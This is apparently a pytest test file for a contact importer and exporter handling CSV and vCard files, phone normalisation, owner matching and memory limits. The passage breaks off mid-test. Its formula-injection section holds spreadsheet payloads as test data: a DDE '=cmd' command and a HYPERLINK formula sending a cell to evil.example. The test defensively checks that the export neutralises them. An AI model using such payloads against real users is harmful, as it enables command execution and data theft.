"""Contact import/export: CSV and vCard files into a real SQLite store and back."""

from __future__ import annotations

import csv
import io
import os
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from app.core import contacts_io
from app.core.contacts_io import (
    ImportFormatError,
    ImportSummary,
    RowIssue,
    export_contacts,
    import_contacts,
)
from app.protocol.phones import PhoneNormalizer
from app.storage import ContactRecord, CrmUser, PhoneRecord, SqliteStore, Store, open_store

MOSCOW = "74951343060"
MOBILE = "79066800404"
OTHER = "78123456789"


@pytest.fixture
def store(tmp_path: Path, new_database: Callable[[str], str | None]) -> Iterator[Store]:
    """Imports run on both backends (the bulk paths differ most: ids, ``json_patch``)."""
    store = open_store(new_database("contacts") or tmp_path / "db.sqlite3")
    try:
        yield store
    finally:
        store.close()


@pytest.fixture
def normalizer() -> PhoneNormalizer:
    return PhoneNormalizer("RU")


@pytest.fixture
def team(store: Store) -> list[CrmUser]:
    users = [
        CrmUser("u-anna", "Анна Смирнова", "101"),
        CrmUser("u-boris", "Boris Ivanov", "102"),
        CrmUser("u-ivan1", "Иван", "103"),
        CrmUser("u-ivan2", "иван", None),
    ]

    def add(s):
        for user in users:
            s.users.upsert(user)

    store.write_sync(add)
    return users


def write(tmp_path: Path, text: str, *, name: str = "contacts.csv", encoding: str = "utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def all_contacts(store: Store) -> list[ContactRecord]:
    return store.read_sync(lambda s: list(s.contacts.iter_all()))


def by_name(store: Store) -> dict[str, ContactRecord]:
    return {c.name: c for c in all_contacts(store)}


def keys(contact: ContactRecord) -> list[str]:
    return [p.key for p in contact.phones]


def run(store: Store, path: Path, normalizer: PhoneNormalizer, **kwargs) -> ImportSummary:
    return import_contacts(store, path, normalizer, **kwargs)


# -- CSV -------------------------------------------------------------------------------


def test_csv_basic(store, normalizer, tmp_path):
    path = write(tmp_path, (
        "name,phone,company,owner,email,note\n"
        "Иван Петров,+7 (495) 134-30-60,ООО Ромашка,,ivan@example.com,звонить после обеда\n"
        "Anna Lee,8 906 680-04-04,,,,\n"
    ))
    summary = run(store, path, normalizer)
    assert summary == ImportSummary(imported=2, updated=0, skipped=[], warnings=[])
    contacts = by_name(store)
    ivan = contacts["Иван Петров"]
    assert keys(ivan) == [MOSCOW]
    assert ivan.phones[0].raw == "+7 (495) 134-30-60"
    assert ivan.company_name == "ООО Ромашка"
    assert ivan.email == "ivan@example.com"
    assert ivan.note == "звонить после обеда"
    assert ivan.owner_id is None
    assert ivan.extra == {}
    anna = contacts["Anna Lee"]
    assert keys(anna) == [MOBILE]
    assert anna.company_id is None and anna.email is None and anna.note is None
    assert store.write_sync(lambda s: s.contacts.company_id("ООО Ромашка")) == ivan.company_id


def test_headers_are_trimmed_case_insensitive_and_in_any_order(store, normalizer, tmp_path):
    path = write(tmp_path, " Phone , NAME,E-Mail\n84951343060,Ivan,i@x.ru\n")
    summary = run(store, path, normalizer)
    assert (summary.imported, summary.skipped) == (1, [])
    ivan = by_name(store)["Ivan"]
    assert keys(ivan) == [MOSCOW] and ivan.email == "i@x.ru"


def test_several_numbers_per_row_with_labels(store, normalizer, tmp_path):
    path = write(tmp_path, (
        "name,phone\n"
        '"Иван","mobile: +7 906 680-04-04; work: 8 495 134-30-60, доб. 12; 8 (812) 345-67-89"\n'
        '"Пётр","tel:+74951343061\n89066800405"\n'
        '"Дубль","84951343062; +7 495 134-30-62"\n'
    ))
    summary = run(store, path, normalizer)
    assert (summary.imported, summary.warnings, summary.skipped) == (3, [], [])
    contacts = by_name(store)
    ivan = contacts["Иван"]
    assert [(p.key, p.label, p.raw) for p in ivan.phones] == [
        (MOBILE, "mobile", "+7 906 680-04-04"),
        (MOSCOW, "work", "8 495 134-30-60, доб. 12"),
        (OTHER, None, "8 (812) 345-67-89"),
    ]
    assert ivan.phones[1].extension == "12"
    assert keys(contacts["Пётр"]) == ["74951343061", "79066800405"]
    assert contacts["Пётр"].phones[0].label is None  # "tel:" is a link, not a label
    assert keys(contacts["Дубль"]) == ["74951343062"]  # one number written twice


def test_several_phone_columns_are_merged(store, normalizer, tmp_path):
    path = write(tmp_path, "name,phone,телефон\nIvan,84951343060,89066800404\n")
    run(store, path, normalizer)
    assert keys(by_name(store)["Ivan"]) == [MOSCOW, MOBILE]


def test_russian_headers_and_semicolon_delimiter(store, normalizer, tmp_path, team):
    path = write(tmp_path, (
        "Имя;Телефон;Компания;Ответственный;Почта;Примечание\n"
        "Иван Петров;8 495 134-30-60;ООО Ромашка, филиал;101;ivan@example.com;VIP\n"
    ))
    summary = run(store, path, normalizer)
    assert (summary.imported, summary.skipped, summary.warnings) == (1, [], [])
    ivan = by_name(store)["Иван Петров"]
    assert keys(ivan) == [MOSCOW]
    assert ivan.company_name == "ООО Ромашка, филиал"
    assert ivan.owner_id == "u-anna"
    assert (ivan.email, ivan.note) == ("ivan@example.com", "VIP")


def test_note_alias_zametka_and_tab_delimiter(store, normalizer, tmp_path):
    path = write(tmp_path, "имя\tтелефон\tзаметка\nИван\t+7 495 134 30 60\tперезвонить\n")
    run(store, path, normalizer)
    assert by_name(store)["Иван"].note == "перезвонить"


def test_utf8_bom(store, normalizer, tmp_path):
    path = write(tmp_path, "\ufeffname;phone\nИван;84951343060\n")
    summary = run(store, path, normalizer)
    assert summary.imported == 1 and summary.skipped == []
    assert keys(by_name(store)["Иван"]) == [MOSCOW]


def test_cp1251_file(store, normalizer, tmp_path):
    path = write(tmp_path, "Имя;Телефон;Компания\r\nИван Петров;84951343060;Ромашка\r\n", encoding="cp1251")
    with pytest.raises(UnicodeDecodeError):
        path.read_bytes().decode("utf-8")
    summary = run(store, path, normalizer)
    assert summary.imported == 1 and summary.skipped == []
    ivan = by_name(store)["Иван Петров"]
    assert ivan.company_name == "Ромашка" and keys(ivan) == [MOSCOW]


def test_utf16_file_from_excel_unicode_text(store, normalizer, tmp_path):
    path = write(tmp_path, "\ufeffИмя\tТелефон\r\nИван\t84951343060\r\n", encoding="utf-16-le")
    assert run(store, path, normalizer).imported == 1
    assert keys(by_name(store)["Иван"]) == [MOSCOW]


def test_excel_sep_line(store, normalizer, tmp_path):
    path = write(tmp_path, "sep=;\nname;phone\nIvan;84951343060\n;\nx;y\n")
    summary = run(store, path, normalizer)
    assert summary.imported == 2
    assert keys(by_name(store)["Ivan"]) == [MOSCOW]
    # line numbers still count the sep= line: "x;y" is line 5 and "y" is not a number
    assert summary.warnings == [RowIssue(5, "invalid phone 'y' (it contains no phone number) was not imported")]


def test_unknown_columns_go_into_extra(store, normalizer, tmp_path):
    path = write(tmp_path, (
        "name,phone,Должность,Город,\n"
        "Ivan,84951343060,бухгалтер,,\n"
        "Petr,89066800404,,Тверь,,лишнее\n"
    ))
    summary = run(store, path, normalizer)
    contacts = by_name(store)
    assert contacts["Ivan"].extra == {"Должность": "бухгалтер"}  # empty cells are not stored
    assert contacts["Petr"].extra == {"Город": "Тверь", "column 6": "лишнее"}
    assert [w.line for w in summary.warnings] == [3]
    assert "column 6" in summary.warnings[0].reason


# -- matching --------------------------------------------------------------------------


def test_rows_matching_an_existing_contact_update_it(store, normalizer, tmp_path):
    existing = ContactRecord(
        id=None, name="Иван", email="old@example.com", note="старая заметка", extra={"Город": "Тверь"},
        phones=[PhoneRecord(MOSCOW, "+7 495 134-30-60", "work")],
    )
    existing_id = store.write_sync(lambda s: s.contacts.save(existing))
    path = write(tmp_path, (
        "name,phone,company,email,note,Должность\n"
        "Иван Петров,84951343060; 89066800404,Ромашка,,,бухгалтер\n"
        "Новый,88123456789,,,,\n"
    ))
    summary = run(store, path, normalizer)
    assert (summary.imported, summary.updated) == (1, 1)
    ivan = store.read_sync(lambda s: s.contacts.get(existing_id))
    assert ivan.name == "Иван Петров"  # non-empty fields overwrite
    assert ivan.company_name == "Ромашка"
    assert (ivan.email, ivan.note) == ("old@example.com", "старая заметка")  # empty ones keep
    assert ivan.extra == {"Город": "Тверь", "Должность": "бухгалтер"}
    assert [(p.key, p.raw, p.label) for p in ivan.phones] == [
        (MOSCOW, "+7 495 134-30-60", "work"),  # the stored phone is kept as it was
        (MOBILE, "89066800404", None),
    ]
    assert len(all_contacts(store)) == 2


def test_matching_by_a_second_number(store, normalizer, tmp_path):
    existing = ContactRecord(id=None, name="Иван", phones=[PhoneRecord(MOBILE, "89066800404")])
    existing_id = store.write_sync(lambda s: s.contacts.save(existing))
    path = write(tmp_path, "name,phone\n,88123456789; +7 906 680 04 04\n")
    summary = run(store, path, normalizer)
    assert (summary.imported, summary.updated) == (0, 1)
    ivan = store.read_sync(lambda s: s.contacts.get(existing_id))
    assert ivan.name == "Иван"  # a row without a name never renames
    assert keys(ivan) == [MOBILE, OTHER]


@pytest.mark.parametrize("batch_size", [5000, 1])
def test_same_number_twice_in_one_file(store, normalizer, tmp_path, batch_size):
    path = write(tmp_path, (
        "name,phone,email,note\n"
        "Иван,84951343060,ivan@example.com,первая\n"
        "Пётр,89066800404,,\n"
        "Иван Петров,+7 495 134-30-60; 88123456789,,вторая\n"
        ",8 812 345 67 89,,третья\n"
    ))
    summary = run(store, path, normalizer, batch_size=batch_size)
    assert (summary.imported, summary.updated, summary.skipped) == (2, 2, [])
    contacts = by_name(store)
    assert sorted(contacts) == ["Иван Петров", "Пётр"]
    ivan = contacts["Иван Петров"]
    assert keys(ivan) == [MOSCOW, OTHER]
    assert (ivan.email, ivan.note) == ("ivan@example.com", "третья")


def test_reimporting_the_same_file_updates_only(store, normalizer, tmp_path):
    path = write(tmp_path, "name,phone\nIvan,84951343060\nPetr,89066800404; 88123456789\n")
    assert run(store, path, normalizer).imported == 2
    again = run(store, path, normalizer)
    assert (again.imported, again.updated) == (0, 2)
    assert len(all_contacts(store)) == 2
    assert keys(by_name(store)["Petr"]) == [MOBILE, OTHER]


# -- skipped rows and warnings -----------------------------------------------------------


def test_skip_reasons_with_physical_line_numbers(store, normalizer, tmp_path):
    path = write(tmp_path, (
        "name,phone,note\n"                       # 1
        'Иван,84951343060,"две\n'                 # 2
        'строки"\n'                               # 3
        ",,\n"                                    # 4  empty: skipped silently
        "\n"                                      # 5  empty: skipped silently
        ",,только заметка\n"                      # 6  no name, no number
        ',abc,"и ещё\n'                           # 7  no name, invalid number
        '\n'                                      # 8  (inside the quoted note)
        'строка"\n'                               # 9
        "Только имя,,\n"                          # 10 a name alone is imported
        ",89066800404,\n"                         # 11 a number alone: named after it
    ))
    summary = run(store, path, normalizer)
    assert summary.skipped == [
        RowIssue(6, "no name and no valid phone number"),
        RowIssue(7, "no name and no valid phone number: invalid phone 'abc' (it contains no phone number)"),
    ]
    assert summary.warnings == []
    assert (summary.imported, summary.updated) == (3, 0)
    contacts = by_name(store)
    assert contacts["Иван"].note == "две\nстроки"
    assert contacts["Только имя"].phones == []
    assert keys(contacts["+7 906 680-04-04"]) == [MOBILE]


def test_invalid_numbers_are_warned_and_the_valid_ones_kept(store, normalizer, tmp_path):
    path = write(tmp_path, (
        "name,phone\n"
        "Иван,84951343060; 134-30-60; abc\n"
        "Пётр,12\n"  # an internal extension is a valid number
    ))
    summary = run(store, path, normalizer)
    assert summary.imported == 2 and summary.skipped == []
    assert summary.warnings == [
        RowIssue(2, "invalid phone '134-30-60' (it is a local number without an area code) was not imported"),
        RowIssue(2, "invalid phone 'abc' (it contains no phone number) was not imported"),
    ]
    assert keys(by_name(store)["Иван"]) == [MOSCOW]
    assert keys(by_name(store)["Пётр"]) == ["12"]


def test_a_name_with_only_invalid_numbers_is_imported_with_a_warning(store, normalizer, tmp_path):
    path = write(tmp_path, "name,phone\nИван,abc\n")
    summary = run(store, path, normalizer)
    assert summary.imported == 1
    assert [w.line for w in summary.warnings] == [2]
    assert by_name(store)["Иван"].phones == []


# -- owner -----------------------------------------------------------------------------


def test_owner_resolution(store, normalizer, tmp_path, team):
    path = write(tmp_path, (
        "name,phone,owner\n"
        "by id,84950000001,u-boris\n"            # 2
        "by extension,84950000002,101\n"         # 3
        "by name,84950000003,анна смирнова\n"    # 4  case-insensitive, Cyrillic too
        "unknown digits,84950000004,9022\n"      # 5  kept: the PBX takes an extension
        "unknown,84950000005,Вася\n"             # 6
        "ambiguous,84950000006,ИВАН\n"           # 7  two users named Иван
        "no owner,84950000007,\n"                # 8
    ))
    summary = run(store, path, normalizer)
    contacts = by_name(store)
    assert {name: c.owner_id for name, c in contacts.items()} == {
        "by id": "u-boris",
        "by extension": "u-anna",
        "by name": "u-anna",
        "unknown digits": "9022",
        "unknown": None,
        "ambiguous": None,
        "no owner": None,
    }
    assert contacts["unknown"].extra == {"owner": "Вася"}
    assert contacts["ambiguous"].extra == {"owner": "ИВАН"}
    assert contacts["by name"].extra == {}
    assert [(w.line, w.reason.split(":")[0]) for w in summary.warnings] == [
        (6, "unknown owner 'Вася'"),
        (7, "owner 'ИВАН' is ambiguous"),
    ]
    assert summary.imported == 7


def test_a_resolved_owner_replaces_an_earlier_unresolved_one(store, normalizer, tmp_path, team):
    run(store, write(tmp_path, "name,phone,owner\nIvan,84951343060,Вася\n"), normalizer)
    assert by_name(store)["Ivan"].extra == {"owner": "Вася"}
    run(store, write(tmp_path, "name,phone,owner\nIvan,84951343060,102\n", name="b.csv"), normalizer)
    ivan = by_name(store)["Ivan"]
    assert (ivan.owner_id, ivan.extra) == ("u-boris", {})


# -- vCard -----------------------------------------------------------------------------

VCARD3 = (
    "BEGIN:VCARD\r\n"                                             # 1
    "VERSION:3.0\r\n"
    "N:Петров;Иван;;;\r\n"
    "FN:Иван Петров\r\n"
    "ORG:ООО Ромашка;Отдел продаж\r\n"                            # 5
    "TEL;TYPE=WORK,VOICE:+7 495 134-30-60\r\n"
    "TEL;TYPE=CELL:8 906 680-\r\n"
    " 04-04\r\n"                                                  # a folded line
    "EMAIL;TYPE=INTERNET:ivan@example.com\r\n"
    "NOTE:Постоянный клиент\\, звонить утром\\nвторая строка очень длинной заметки\\, которую пе\r\n"  # 10
    " ренесли\r\n"
    "X-PBX-OWNER:101\r\n"
    "END:VCARD\r\n"
    "BEGIN:VCARD\r\n"                                             # 14
    "VERSION:3.0\r\n"
    "N:Smith;John;;;\r\n"
    "TEL:abc\r\n"
    "END:VCARD\r\n"
    "BEGIN:VCARD\r\n"                                             # 19
    "VERSION:3.0\r\n"
    "FN this line is broken\r\n"
    "END:VCARD\r\n"
    "BEGIN:VCARD\r\n"                                             # 23
    "VERSION:3.0\r\n"
    "EMAIL:nobody@example.com\r\n"
    "END:VCARD\r\n"
)


def test_vcard_3(store, normalizer, tmp_path, team):
    summary = run(store, write(tmp_path, VCARD3, name="contacts.vcf"), normalizer)
    assert (summary.imported, summary.updated) == (2, 0)
    assert [w.line for w in summary.warnings] == [14]
    assert "invalid phone 'abc'" in summary.warnings[0].reason
    assert [s.line for s in summary.skipped] == [19, 23]
    assert summary.skipped[0].reason.startswith("unreadable vCard: ")
    assert "line 21" in summary.skipped[0].reason
    assert summary.skipped[1].reason == "no name and no valid phone number"
    contacts = by_name(store)
    ivan = contacts["Иван Петров"]
    assert [(p.key, p.label) for p in ivan.phones] == [(MOSCOW, "work"), (MOBILE, "cell")]
    assert ivan.phones[1].raw == "8 906 680-04-04"
    assert ivan.company_name == "ООО Ромашка"
    assert ivan.email == "ivan@example.com"
    assert ivan.note == "Постоянный клиент, звонить утром\nвторая строка очень длинной заметки, которую перенесли"
    assert ivan.owner_id == "u-anna"
    assert contacts["John Smith"].phones == []  # N when there is no FN


VCARD4 = (
    "\ufeff\n"
    "BEGIN:VCARD\n"                                               # 2
    "VERSION:4.0\n"
    "FN:Jane Doe\n"
    "TEL;VALUE=uri;TYPE=\"voice,home\":tel:+1-415-555-0100;ext=102\n"
    "TEL;TYPE=work;PREF=1:+74951343060\n"
    "TEL;TYPE=cell:+79066800404\n"
    "ORG:Acme Inc.\n"
    "EMAIL:jane@example.com\n"
    "X-PBX-OWNER:Boris Ivanov\n"
    "X-PBX-EXTRA:{\"Город\": \"Тверь\"}\n"
    "END:VCARD\n"
    "BEGIN:VCARD\n"                                               # 13
    "VERSION:4.0\n"
    "FN:Same Number\n"
    "TEL:8 (495) 134-30-60\n"
    "END:VCARD\n"
)


def test_vcard_4(store, normalizer, tmp_path, team):
    summary = run(store, write(tmp_path, VCARD4, name="contacts.vcf"), normalizer)
    assert (summary.imported, summary.updated, summary.skipped, summary.warnings) == (1, 1, [], [])
    jane = by_name(store)["Same Number"]  # the second card matched the first by number
    assert [(p.key, p.label, p.extension) for p in jane.phones] == [
        ("14155550100", "home", "102"),
        (MOSCOW, "work", None),
        (MOBILE, "cell", None),
    ]
    assert jane.phones[0].raw == "tel:+1-415-555-0100;ext=102"
    assert (jane.company_name, jane.email, jane.owner_id) == ("Acme Inc.", "jane@example.com", "u-boris")
    assert jane.extra == {"Город": "Тверь"}


def test_vcard_2_1_quoted_printable(store, normalizer, tmp_path):
    text = (
        "BEGIN:VCARD\r\nVERSION:2.1\r\n"
        "FN;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:=D0=98=D0=B2=D0=B0=D0=BD\r\n"
        "TEL;CELL;PREF:+79066800404\r\n"
        "END:VCARD\r\n"
    )
    run(store, write(tmp_path, text, name="android.vcf"), normalizer)
    assert [(p.key, p.label) for p in by_name(store)["Иван"].phones] == [(MOBILE, "cell")]


# -- not a contacts file -----------------------------------------------------------------


def test_csv_without_name_or_phone_column(store, normalizer, tmp_path):
    path = write(tmp_path, "date;amount;comment\n2024-01-01;100;x\n")
    with pytest.raises(ImportFormatError) as caught:
        run(store, path, normalizer)
    message = str(caught.value)
    assert "'name'" in message and "'phone'" in message
    assert "'date', 'amount', 'comment'" in message
    assert all_contacts(store) == []


@pytest.mark.parametrize("content, expected", [
    (b"", "empty"),
    (b" \r\n\r\n", "empty"),
    (b"\x00\x01\x02binary", "binary"),
])
def test_other_files_are_rejected(store, normalizer, tmp_path, content, expected):
    path = tmp_path / "file.csv"
    path.write_bytes(content)
    with pytest.raises(ImportFormatError, match=expected):
        run(store, path, normalizer)


def test_an_excel_workbook_is_rejected_with_a_hint(store, normalizer, tmp_path):
    path = tmp_path / "contacts.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    with pytest.raises(ImportFormatError, match="save it as CSV"):
        run(store, path, normalizer)


def test_bad_batch_size(store, normalizer, tmp_path):
    with pytest.raises(ValueError):
        run(store, write(tmp_path, "name\nx\n"), normalizer, batch_size=0)


# -- progress --------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "vcard"])
def test_progress_is_reported_up_to_the_total(store, normalizer, tmp_path, fmt):
    if fmt == "csv":
        text = "name,phone\n" + "".join(f"Контакт {i},8495{i:07d}\n" for i in range(2000))
    else:
        text = "".join(f"BEGIN:VCARD\nVERSION:3.0\nFN:Контакт {i}\nTEL:8495{i:07d}\nEND:VCARD\n" for i in range(1200))
    path = write(tmp_path, text, name=f"contacts.{fmt}")
    calls: list[tuple[int, int]] = []
    summary = run(store, path, normalizer, progress=lambda done, total: calls.append((done, total)), batch_size=300)
    assert summary.imported == (2000 if fmt == "csv" else 1200)
    size = path.stat().st_size
    assert len(calls) >= 4
    assert all(total == size for _, total in calls)
    done = [d for d, _ in calls]
    assert done == sorted(done) and done[0] == 0 and done[-1] == size
    assert any(0 < d < size for d in done)


# -- export ----------------------------------------------------------------------------


def snapshot(store: Store) -> list[tuple]:
    return sorted(
        (c.name, tuple(p.key for p in c.phones), tuple(p.label for p in c.phones), c.company_name,
         c.owner_id, c.email, c.note, tuple(sorted(c.extra.items())))
        for c in all_contacts(store)
    )


ROUND_TRIP_CSV = (
    "Имя;Телефон;Компания;Ответственный;Почта;Примечание;Должность\n"
    'Иван Петров;"моб: +7 906 680-04-04; 8 495 134-30-60 доб. 12";ООО "Ромашка";101;ivan@example.com;"две\nстроки"'
    ";бухгалтер\n"
    "Anna, Lee;88123456789;Acme;Вася;;;\n"
    "Только имя;;;9022;x@y.z;;\n"
    ";+1 415 555 0100;;;;;\n"
)


@pytest.mark.parametrize("fmt", ["csv", "vcard"])
def test_export_then_import_round_trips(store, normalizer, tmp_path, team, fmt):
    summary = run(store, write(tmp_path, ROUND_TRIP_CSV), normalizer)
    assert summary.imported == 4
    before = snapshot(store)
    out = io.StringIO(newline="")
    assert export_contacts(store, out, fmt) == 4
    exported = tmp_path / f"export.{fmt}"
    exported.write_text(out.getvalue(), encoding="utf-8", newline="")

    other = SqliteStore(tmp_path / "other.sqlite3")
    try:
        other.write_sync(lambda s: [s.users.upsert(u) for u in team])
        again = import_contacts(other, exported, normalizer)
        assert (again.imported, again.updated, again.skipped) == (4, 0, [])
        assert snapshot(other) == before
    finally:
        other.close()


def test_csv_export_format(store, normalizer, tmp_path, team):
    run(store, write(tmp_path, ROUND_TRIP_CSV), normalizer)
    out = io.StringIO(newline="")
    export_contacts(store, out)
    lines = out.getvalue().split("\r\n")
    assert lines[0] == "name,phone,company,owner,email,note,Должность"
    assert lines[1] == (
        'Иван Петров,моб:+7 906 680-04-04; 8 495 134-30-60 доб. 12,"ООО ""Ромашка""",u-anna,ivan@example.com,'
        '"две\nстроки",бухгалтер'
    )
    assert "Anna, Lee" in out.getvalue() and ",Вася," in out.getvalue()  # the unresolved owner text


def test_vcard_export_is_version_4(store, normalizer, tmp_path, team):
    run(store, write(tmp_path, ROUND_TRIP_CSV), normalizer)
    out = io.StringIO(newline="")
    export_contacts(store, out, "vcard")
    text = out.getvalue()
    assert text.count("BEGIN:VCARD\r\n") == 4 and text.count("VERSION:4.0\r\n") == 4
    assert "TEL;TYPE=моб:+7 906 680-04-04\r\n" in text
    assert "X-PBX-OWNER:u-anna\r\n" in text


def test_export_empty_store_and_unknown_format(store):
    out = io.StringIO()
    assert export_contacts(store, out) == 0
    assert out.getvalue() == "name,phone,company,owner,email,note\r\n"
    with pytest.raises(ValueError, match="xlsx"):
        export_contacts(store, io.StringIO(), "xlsx")


# -- worker processes --------------------------------------------------------------------


def test_big_files_parse_numbers_in_worker_processes(store, normalizer, tmp_path, monkeypatch):
    text = "name,phone\n" + "".join(
        f"Контакт {i},8495{i:07d}; {'abc' if i % 97 == 0 else f'8906{i:07d}'}\n" for i in range(3000)
    ) + "Дубль,84950000005\n"
    path = write(tmp_path, text)
    serial = run(store, path, normalizer)
    expected = snapshot(store)

    monkeypatch.setattr(contacts_io, "PARALLEL_MIN_BYTES", 0)
    monkeypatch.setattr(os, "cpu_count", lambda: 2)
    started: list[int] = []
    real_init = contacts_io._PhoneParser.__init__

    def spy(self, normalizer, workers):
        started.append(workers)
        real_init(self, normalizer, workers)

    monkeypatch.setattr(contacts_io._PhoneParser, "__init__", spy)
    other = SqliteStore(tmp_path / "other.sqlite3")
    try:
        parallel = import_contacts(other, path, normalizer, batch_size=700)
        assert started == [1]
        assert parallel == serial
        assert (parallel.imported, parallel.updated, len(parallel.warnings)) == (3000, 1, 31)
        assert snapshot(other) == expected
    finally:
        other.close()


def test_garbage_collection_is_paused_only_during_the_import(store, normalizer, tmp_path):
    import gc

    path = write(tmp_path, "name,phone\nIvan,84951343060\n")
    states: list[bool] = []
    run(store, path, normalizer, progress=lambda done, total: states.append(gc.isenabled()))
    assert gc.isenabled()
    assert states[0] is False  # the first call comes from inside the import

    def boom(done: int, total: int) -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        run(store, path, normalizer, progress=boom)
    assert gc.isenabled()


def test_an_unclosed_quote_ends_the_import_with_a_reason(store, normalizer, tmp_path):
    text = "name,phone,note\nIvan,84951343060,ok\nPetr,89066800404,\"never closed\n" + "x" * 140_000 + "\n"
    summary = run(store, write(tmp_path, text), normalizer)
    assert summary.imported == 1  # the rows before it are in
    assert len(summary.skipped) == 1 and summary.skipped[0].line == 3
    assert "unreadable from here on" in summary.skipped[0].reason


def test_vcard_export_of_odd_labels(store, normalizer, tmp_path):
    path = write(tmp_path, 'name,phone\nA,"рабочий мобильный: 84951343060; ""q"": 89066800404; a=b: 88123456789"\n')
    run(store, path, normalizer)
    out = io.StringIO(newline="")
    export_contacts(store, out, "vcard")
    exported = write(tmp_path, out.getvalue(), name="export.vcf")
    other = SqliteStore(tmp_path / "other.sqlite3")
    try:
        assert import_contacts(other, exported, normalizer).imported == 1
        (contact,) = all_contacts(other)
        assert [(p.key, p.label) for p in contact.phones] == [
            (MOSCOW, "рабочий мобильный"), (MOBILE, "q"), (OTHER, "a=b"),
        ]
    finally:
        other.close()


# -- formulas in the CSV export (issue 11) ------------------------------------------------------

HOSTILE = (
    "name,phone,company,owner,email,note,=cmd|' /C calc'!A0\n"
    '"=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")",+7 495 134-30-60,+Romashka,@anna,'
    "-x@y.z,'=already quoted,-2+3\n"
    "'t Hooft,89066800404,@Acme,,,''=two quotes,\n"
)


def test_csv_export_writes_no_cell_a_spreadsheet_runs_and_reimports_exactly(store, normalizer, tmp_path):
    summary = run(store, write(tmp_path, HOSTILE), normalizer)
    assert (summary.imported, summary.skipped) == (2, [])
    before = snapshot(store)
    ivan = by_name(store)['=HYPERLINK("http://evil.example/?d="&A1,"Click")']
    assert (ivan.company_name, ivan.email, ivan.note) == ("+Romashka", "-x@y.z", "=already quoted")
    assert by_name(store)["'t Hooft"].note == "'=two quotes"
    assert ivan.extra == {"owner": "@anna", "=cmd|' /C calc'!A0": "-2+3"}
    out = io.StringIO(newline="")
    export_contacts(store, out)

    table = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    cells = [cell for row in table for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]  # OWASP's list
    assert table[0][-1] == "'=cmd|' /C calc'!A0"
    rows = {row[0]: row for row in table[1:]}
    ivan_row = rows["'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")"]
    # A number stays readable: the quote is the spreadsheets' "this is text" mark.
    assert ivan_row[1:6] == ["'+7 495 134-30-60", "'+Romashka", "'@anna", "'-x@y.z", "'=already quoted"]
    assert rows["'t Hooft"][5] == "''=two quotes"  # a quote before no formula start stays as it is

    exported = write(tmp_path, out.getvalue(), name="export.csv")
    other = SqliteStore(tmp_path / "other.sqlite3")
    try:
        again = import_contacts(other, exported, normalizer)
        assert (again.imported, again.updated, again.skipped) == (2, 0, [])
        assert snapshot(other) == before
    finally:
        other.close()


def test_the_text_mark_rule_round_trips_every_formula_start():
    from app.protocol.text import FORMULA_STARTS, from_spreadsheet_cell, spreadsheet_cell

    for start in FORMULA_STARTS:
        for value in (f"{start}1+1", f"'{start}x", f"''{start}", start):
            cell = spreadsheet_cell(value)
            assert cell.startswith("'") and from_spreadsheet_cell(cell) == value, value
    for value in ("", "Ivan", "'t Hooft", "''", "8 495 134-30-60", " =x", "\n=x"):
        assert spreadsheet_cell(value) == value and from_spreadsheet_cell(value) == value, value


# -- memory (issue 13) --------------------------------------------------------------------------

#: Peak RSS an import of the hostile files below may reach (the interpreter with the importer's
#: modules is ~40 MiB; before the bound they took 387 and 203 MiB).
IMPORT_RSS_LIMIT_MIB = 150

_MEASURE = """
import sys
from pathlib import Path
from app.core.contacts_io import import_contacts
from app.protocol.phones import PhoneNormalizer
from app.storage import SqliteStore
store = SqliteStore(Path(sys.argv[2]))
summary = import_contacts(store, Path(sys.argv[1]), PhoneNormalizer("RU"))
store.close()
status = Path("/proc/self/status").read_text()
print(int(status.split("VmHWM:")[1].split()[0]) // 1024)
print(summary.imported, len(summary.skipped))
for issue in summary.warnings:
    print(issue.line, issue.reason)
"""


needs_proc = pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="reads VmHWM from /proc")


def peak_import_rss(path: Path, database: Path) -> tuple[int, list[str]]:
    """Import ``path`` in a fresh interpreter; its peak RSS in MiB and what it printed.

    The peak is the kernel's VmHWM of the new program, not ``getrusage``'s ``ru_maxrss``: Linux
    carries the parent's high-water mark over ``fork``/``exec`` into ``ru_maxrss``, so under a
    pytest process of 200 MiB every child would "peak" at 200 MiB.
    """
    import subprocess
    import sys

    done = subprocess.run([sys.executable, "-c", _MEASURE, str(path), str(database)], capture_output=True,
                          text=True, timeout=300, check=False, cwd=Path(__file__).resolve().parents[1])
    assert done.returncode == 0, done.stderr[-3000:]
    lines = done.stdout.splitlines()
    return int(lines[0]), lines[1:]


@needs_proc
def test_a_row_of_a_million_columns_is_cut_and_memory_stays_bounded(tmp_path):
    path = tmp_path / "wide.csv"
    with path.open("w", newline="") as f:
        f.write("name,phone,position\nIvan,84951343060,boss," + ",".join(f"value{i:07d}" for i in range(1_000_000)))
        f.write("\nPetr,89066800404,clerk\n")
    assert path.stat().st_size > 12_000_000
    database = tmp_path / "db.sqlite3"
    peak, printed = peak_import_rss(path, database)
    assert peak < IMPORT_RSS_LIMIT_MIB, f"peak RSS {peak} MiB"
    assert printed[0] == "2 0"
    assert any(line.startswith("2 the row holds more than an import keeps of one row (256 values, 65,536 characters),"
                               " so it was cut: 999,747 values left out") for line in printed), printed
    store = SqliteStore(database)
    try:
        contacts = {c.name: c for c in all_contacts(store)}
    finally:
        store.close()
    ivan = contacts["Ivan"]
    assert keys(ivan) == [MOSCOW] and ivan.extra["position"] == "boss"
    assert len(ivan.extra) == 256 - 2 and ivan.extra["column 4"] == "value0000000"
    assert contacts["Petr"].extra == {"position": "clerk"}


@needs_proc
def test_rows_of_huge_cells_are_cut_and_memory_stays_bounded(tmp_path):
    path = tmp_path / "huge.csv"
    cell = "я" * 60_000
    with path.open("w", encoding="utf-8", newline="") as f:
        f.write("name,phone,note\n")
        for n in range(100):
            f.write(f"Row {n},8906{n:07d},{cell}," + ",".join([cell] * 4) + "\n")
    assert path.stat().st_size > 50_000_000
    database = tmp_path / "db.sqlite3"
